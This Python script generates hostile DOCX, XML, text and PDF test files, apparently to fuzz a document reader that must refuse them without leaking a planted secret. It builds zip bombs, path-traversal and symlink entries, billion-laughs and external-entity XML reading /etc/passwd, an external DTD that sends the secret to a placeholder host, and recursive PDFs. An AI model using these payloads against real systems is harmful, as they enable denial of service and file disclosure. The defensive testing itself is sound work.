#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Makes every hostile document into a folder: make_hostile.py FOLDER.

Each is made to stall, to blow up, to lead outside, or to be read in two ways, and each holds
SECRET, which must never come out. A file's name begins with what must become of it: "bad" is
refused, "any" is refused or has a copy that was verified. Nothing is large: what
must be long is packed, or full of holes."""
import os
import random
import struct
import sys
import zlib

SECRET = "Quenneville"
LEAD = f"Child's name: Ada {SECRET}\nMother: Jane {SECRET}\n\n"
MEGA = 1024 * 1024

CASES = {}


def case(name):
    """Registers a maker of the bytes of file `name`."""
    def keep(make):
        CASES[name] = make
        return make
    return keep


# --- ZIP, written by hand so that it can lie -----------------------------------------------------

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
         'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
         'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
         '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
         'officedocument.wordprocessingml.document.main+xml"/></Types>')
RELATIONS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
             '2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
             'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
             '</Relationships>')


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def document(body, before=""):
    lead = paragraph(f"Child&#39;s name: Ada {SECRET}")
    return (f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}"><w:body>{lead}{body}'
            '</w:body></w:document>')


class Member:
    """One member of an archive; what its headers say can be set to anything."""

    def __init__(self, name, data, method=8, attributes=0, packed=None, size=None, stored=None,
                 flags=0, extra=b"", made_by=20, at=None):
        data = data.encode() if isinstance(data, str) else data
        if packed is None:
            packed = data if method == 0 else deflated(data)
        self.name = name if isinstance(name, bytes) else name.encode()
        self.packed, self.method, self.flags, self.extra = packed, method, flags, extra
        self.crc, self.attributes, self.made_by, self.at = zlib.crc32(data), attributes, made_by, at
        self.size = len(data) if size is None else size
        self.stored = len(packed) if stored is None else stored

    def fields(self):
        return struct.pack("<HHHHHIIIHH", 20, self.flags, self.method, 0, 0x21, self.crc,
                           self.stored, self.size, len(self.name), len(self.extra))


def deflated(data, level=6):
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def archive(members, entries=None):
    """An archive of `members`; one whose `at` is set shares another's bytes."""
    body, central = [], []
    place, places = 0, []
    for member in members:
        if member.at is None:
            local = b"PK\3\4" + member.fields() + member.name + member.extra + member.packed
            places.append(place)
            body.append(local)
            place += len(local)
        else:
            places.append(places[member.at])
    for member, start in zip(members, places):
        fields = member.fields()
        central.append(b"PK\1\2" + struct.pack("<H", member.made_by) + fields +
                       struct.pack("<HHHII", 0, 0, 0, member.attributes, start) + member.name +
                       member.extra)
    directory = b"".join(central)
    count = len(members) if entries is None else entries
    return (b"".join(body) + directory +
            b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count & 0xffff, count & 0xffff,
                                    len(directory), place, 0))


def docx(body="", more=(), main=None, before="", **how):
    main = main or Member("word/document.xml", document(body, before), **how)
    return archive([Member("[Content_Types].xml", TYPES), Member("_rels/.rels", RELATIONS), main,
                    *more])


@case("bad-inflates-without-end.docx")
def _():
    return docx(main=Member("word/document.xml", document(" " * (64 * MEGA))))


@case("bad-inflates-to-more-than-it-says.docx")
def _():
    whole = document(paragraph("a" * (64 * MEGA)))
    return docx(main=Member("word/document.xml", whole, size=5000))


@case("bad-unused-member-inflates-without-end.docx")
def _():
    bomb = deflated(b"\0" * (64 * MEGA), 9)
    return docx(more=[Member(f"word/media/{n}.xml", b"", packed=bomb, size=0x7fffffff)
                      for n in range(4)])


@case("bad-overlapping.docx")
def _():
    kernel = Member("word/media/0.xml", b"\0" * (8 * MEGA))
    others = [Member(f"word/media/{n}.xml", b"", packed=kernel.packed, size=kernel.size, at=3)
              for n in range(1, 300)]
    for other in others:
        other.crc = kernel.crc
    return docx(more=[kernel] + others)


@case("any-nested.docx")
def _():
    inner = archive([Member("0.bin", b"\0" * (8 * MEGA))])
    for level in range(6):
        inner = archive([Member(f"{n}.zip", inner) for n in range(10)])
    return docx(more=[Member("word/embeddings/inner.zip", inner)])


@case("bad-quine.docx")
def _():
    # A member whose deflate stream is one stored block that says that it holds the whole archive.
    return docx(main=Member("word/document.xml", SECRET, size=600, stored=600,
                            packed=b"\1" + struct.pack("<HH", 600, 600 ^ 0xffff)))


@case("bad-thousands-of-members.docx")
def _():
    return docx(more=[Member(f"word/{n}.xml", b"", method=0) for n in range(12000)])


@case("bad-zip64-lies.docx")
def _():
    extra = struct.pack("<HHQQQ", 1, 24, 1 << 62, 1 << 62, 1 << 61)
    return docx(main=Member("word/document.xml", document(""), size=0xffffffff, stored=0xffffffff,
                            extra=extra))


@case("bad-more-members-than-there-are.docx")
def _():
    return archive([Member("[Content_Types].xml", TYPES),
                    Member("word/document.xml", document(""))], entries=60000)


@case("any-path-leads-outside.docx")
def _():
    return docx(more=[Member(f"../../{SECRET}.txt", SECRET)])


@case("any-absolute-path.docx")
def _():
    return docx(more=[Member(f"/tmp/{SECRET}.txt", SECRET)])


@case("bad-one-name-twice.docx")
def _():
    return docx(more=[Member("word/document.xml", document(paragraph("another")))])


@case("bad-one-name-in-two-cases.docx")
def _():
    return docx(more=[Member("WORD/Document.XML", document(paragraph("another")))])


@case("any-name-with-nul.docx")
def _():
    return docx(more=[Member(b"word/document.xml\0" + SECRET.encode(), SECRET)])


@case("bad-symlink.docx")
def _():
    return docx(main=Member("word/document.xml", f"/etc/passwd{SECRET}", method=0, made_by=0x0314,
                            attributes=0o120777 << 16))


@case("bad-secret-in-a-broken-parts-name.docx")
def _():
    relations = RELATIONS.replace("word/document.xml", f"word/{SECRET}.xml")
    types = TYPES.replace("word/document.xml", f"word/{SECRET}.xml")
    return archive([Member("[Content_Types].xml", types), Member("_rels/.rels", relations),
                    Member(f"word/{SECRET}.xml", document("<w:p>"))])


@case("bad-cut-short.docx")
def _():
    return docx(paragraph("a b c " * 1000))[:700]


# --- XML ------------------------------------------------------------------------------------------

@case("bad-billion-laughs.docx")
def _():
    lols = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return docx(paragraph("&l9;"), before=f'<!DOCTYPE w [<!ENTITY l0 "{SECRET}">{lols}]>')


@case("bad-quadratic-entities.docx")
def _():
    return docx(paragraph("&a;" * 50000), before=f'<!DOCTYPE w [<!ENTITY a "{SECRET * 5000}">]>')


@case("bad-external-entity.docx")
def _():
    return docx(paragraph("&x;"),
                before='<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


@case("bad-external-dtd.docx")
def _():
    return docx(before=f'<!DOCTYPE w SYSTEM "http://192.0.2.1/{SECRET}.dtd">')


@case("bad-unknown-entity.docx")
def _():
    return docx(paragraph(f"&{SECRET};"))


@case("bad-nested-elements.docx")
def _():
    return docx("<w:ins>" * 200000)


@case("bad-long-attribute.docx")
def _():
    noise = random.Random(7).randbytes(MEGA).hex() * 4
    return docx(f'<w:p w:x="{noise}"/>', method=0)


@case("bad-attribute-without-end.docx")
def _():
    noise = random.Random(7).randbytes(MEGA).hex()
    return docx(f'<w:p w:x="{noise * 32}', method=0)


@case("bad-comment-without-end.docx")
def _():
    noise = random.Random(7).randbytes(MEGA).hex()
    return docx(f"<!-- {SECRET} {noise * 32}", method=0)


@case("bad-many-attributes.docx")
def _():
    return docx("<w:p " + " ".join(f'w:a{n}=""' for n in range(200000)) + "/>", method=0)


@case("bad-many-namespaces.docx")
def _():
    return docx("<w:p " + " ".join(f'xmlns:a{n}="a{n}"' for n in range(100000)) + "/>", method=0)


@case("bad-long-element-name.docx")
def _():
    return docx(f"<{SECRET * MEGA}/>", method=0)


@case("bad-broken-xml.docx")
def _():
    return docx(f"<w:p><{SECRET}></w:p>")


@case("bad-invalid-utf8.docx")
def _():
    whole = document(paragraph("Ada X")).encode().replace(b"X", b"\xc3\x28\xff" + SECRET.encode())
    return docx(main=Member("word/document.xml", whole))


@case("bad-control-characters.docx")
def _():
    return docx(paragraph(f"&#0;&#x1b;[2J{SECRET}"))


@case("bad-endless-paragraph.docx")
def _():
    words = random.Random(7).randbytes(MEGA).hex() * 9
    return docx(paragraph(words), method=0)


@case("bad-endless-runs.docx")
def _():
    return docx("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 1200000 + "</w:p>", method=0)


@case("any-many-paragraphs.docx")
def _():
    return docx(paragraph("") * 60000, method=0)


@case("any-bidi.docx")
def _():
    return docx(paragraph(f"Mother: Jane \u202e{SECRET[::-1]}\u202c and \u2066Jane {SECRET}\u2069"))


# --- plain text -----------------------------------------------------------------------------------

def holes(*pieces):
    """A file of pieces at their places, with holes between."""
    def write(path):
        with open(path, "wb") as file:
            for place, piece in pieces:
                file.seek(place)
                file.write(piece)
    return write


@case("bad-line-of-a-gigabyte.txt")
def _():
    return holes((0, LEAD.encode()), (1024 * MEGA, b"end\n"))


@case("bad-larger-than-is-read.txt")
def _():
    return holes((0, LEAD.encode()), (4096 * MEGA, b"end\n"))


@case("bad-word-without-end.txt")
def _():
    return LEAD.encode() + b"a" * (10 * MEGA)


@case("bad-nuls.txt")
def _():
    return LEAD.encode() + b"\0\0\0\1" * 5000 + SECRET.encode()


@case("any-invalid-utf8.txt")
def _():
    return LEAD.encode() + b"\xff\xfe\xfd \xc3\x28 \xed\xa0\x80 \xf4\x90\x80\x80 Jane " + \
        SECRET.encode() + b"\n"


@case("bad-invalid-utf16.txt")
def _():
    return b"\xff\xfe" + LEAD.encode("utf-16-le") + b"\x00\xd8\x00\xd8a"


@case("any-lone-surrogates.txt")
def _():
    return b"\xff\xfe" + LEAD.encode("utf-16-le") + b"\x00\xd8a\x00\x00\xdc"


@case("any-bidi.txt")
def _():
    return (LEAD + f"Jane \u202e{SECRET[::-1]}\u202c, \u2067Jane {SECRET}\u2069 and Jane "
            + "\u200b".join(SECRET) + "\n").encode()


@case("any-regex-blow-ups.txt")
def _():
    parts = ["a" * 9000, "a." * 4000, "a@" * 4000, "1-" * 4000, "1 " * 4000, "(0" * 3000,
             "A" * 9000, "A b " * 2000, "Mr " * 3000, "O'" * 3000, "van der " * 1000,
             "1/1/" * 2000, "Ref: " * 1500, "http://" * 1500, "Flat 1, " * 1000]
    return (LEAD + "\n\n".join(parts) + "\n").encode()


@case("any-empty-lines.txt")
def _():
    return LEAD.encode() + b"\n" * MEGA


@case("any-many-findings.txt")
def _():
    return (LEAD + "\n".join(f"Telephone: 07700 900{n % 1000:03}" for n in range(2000))).encode()


# --- PDF ------------------------------------------------------------------------------------------

def pdf(objects):
    """A PDF of `objects`: bytes, numbered from 1; the first is the catalogue."""
    out, places = b"%PDF-1.5\n", []
    for n, thing in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % n + thing + b"\nendobj\n"
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + table + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, len(out))


def stream(data, keys=b""):
    return b"<< /Length %d %s >>\nstream\n" % (len(data), keys) + data + b"\nendstream"


def page_of(content, resources=b"", box=b"0 0 300 300", more=(), page=b""):
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R %s /Resources << "
                b"/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> %s >> >>" %
                (box, page, resources), content, *more])


SAYS = b"BT /F 12 Tf 20 200 Td (Child's name: Ada %s) Tj ET\n" % SECRET.encode()


@case("bad-content-inflates-without-end.pdf")
def _():
    return page_of(stream(zlib.compress(SAYS + b"q Q " * (10 * MEGA)), b"/Filter /FlateDecode"))


@case("bad-filters-in-filters.pdf")
def _():
    data = zlib.compress(zlib.compress(SAYS + b" " * (64 * MEGA), 9), 9)
    return page_of(stream(data, b"/Filter [/FlateDecode /FlateDecode]"))


@case("bad-picture-of-billions.pdf")
def _():
    picture = stream(zlib.compress(b"\0" * 1000), b"/Type /XObject /Subtype /Image /Width 100000 "
                     b"/Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter "
                     b"/FlateDecode")
    return page_of(stream(SAYS + b"q 200 0 0 200 0 0 cm /P Do Q"), b"/XObject << /P 5 0 R >>",
                   more=[picture])


@case("bad-huge-page.pdf")
def _():
    return page_of(stream(SAYS), box=b"0 0 90000000 90000000")


@case("bad-forms-in-forms.pdf")
def _():
    forms = [stream(b"/X Do " * 20, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << "
                    b"/XObject << /X %d 0 R >> >>" % (n + 1)) for n in range(5, 15)]
    forms.append(stream(SAYS, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]"))
    return page_of(stream(SAYS + b"/X Do"), b"/XObject << /X 5 0 R >>", more=forms)


@case("any-form-in-itself.pdf")
def _():
    form = stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << "
                  b"/XObject << /X 5 0 R >> >>")
    return page_of(stream(SAYS + b"/X Do"), b"/XObject << /X 5 0 R >>", more=[form])


@case("bad-pages-in-a-ring.pdf")
def _():
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 99999 /Title (%s) >>" %
                SECRET.encode()])


@case("bad-more-pages-than-are-read.pdf")
def _():
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Count 30000 /MediaBox [0 0 9 9] /Kids [" +
                b" ".join(b"%d 0 R" % n for n in range(3, 30003)) + b"] >>"] +
               [b"<< /Type /Page /Parent 2 0 R >>"] * 30000)


@case("any-nested-arrays.pdf")
def _():
    return page_of(stream(SAYS), page=b"/X " + b"[" * 200000 + b"]" * 200000)


@case("any-table-in-a-ring.pdf")
def _():
    whole = page_of(stream(SAYS))
    at = int(whole.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % at)


@case("bad-damaged.pdf")
def _():
    return page_of(stream(SAYS))[:300]


@case("any-more-glyphs-than-are-read.pdf")
def _():
    return page_of(stream(SAYS + b"BT /F 1 Tf 1 1 Td " + b"(aaaaaaaaaaaaaaaaaaaa) Tj " * 6000 +
                          b"ET"))


def write(folder, name):
    path = os.path.join(folder, name)
    made = CASES[name]()
    if callable(made):
        made(path)
    else:
        with open(path, "wb") as file:
            file.write(made)


def main():
    folder = sys.argv[1]
    for name in sys.argv[2:] or CASES:
        write(folder, name)


if __name__ == "__main__":
    main()
